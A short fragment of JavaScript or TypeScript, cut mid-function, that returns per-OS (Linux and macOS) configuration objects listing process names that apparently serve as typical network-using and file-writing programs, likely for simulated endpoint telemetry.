      images: LINUX_IMAGES,
      boot: LINUX_BOOT,
      spawns: LINUX_SPAWNS,
      networkers: ['sshd', 'curl', 'wget', 'apt', 'dockerd', 'nginx', 'wdavdaemon', 'git', 'python3', 'nc', 'kworker'],
      fileWriters: ['bash', 'dpkg', 'apt', 'python3', 'nginx', 'logrotate', 'curl', 'sh', 'dockerd', 'cron'],
    };
  }
  return {
    images: MACOS_IMAGES,
    boot: MACOS_BOOT,
    spawns: MACOS_SPAWNS,
    networkers: ['chrome', 'chromehelper', 'outlook', 'curl', 'git', 'ssh', 'softwareupdate', 'wdavdaemon', 'brew'],
    fileWriters: ['chrome', 'outlook', 'zsh', 'softwareupdate', 'brew', 'python3', 'curl', 'git'],
  };
}
